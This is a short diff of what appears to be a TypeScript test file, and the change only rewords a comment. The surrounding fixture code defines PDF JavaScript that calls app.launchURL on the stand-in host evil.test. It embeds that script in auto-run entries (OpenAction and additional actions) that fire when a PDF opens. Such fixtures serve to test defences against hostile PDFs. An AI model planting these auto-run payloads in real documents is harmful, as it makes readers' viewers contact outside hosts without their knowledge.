@@ -2,7 +2,7 @@ import { linkTo, pdf } from '../support/pdf.ts'
 
 const SCRIPT = '/S /JavaScript /JS (app.launchURL\\("https://evil.test/js"\\); app.alert\\("hola"\\);)'
 
-/** What a PDF can ask for on its own, as it opens. */
+/** Actions that a PDF can start as it opens. */
 const ON_ITS_OWN = [
   `/OpenAction << ${SCRIPT} >>`,
   `/AA << /WC << ${SCRIPT} >> /DP << ${SCRIPT} >> >>`,
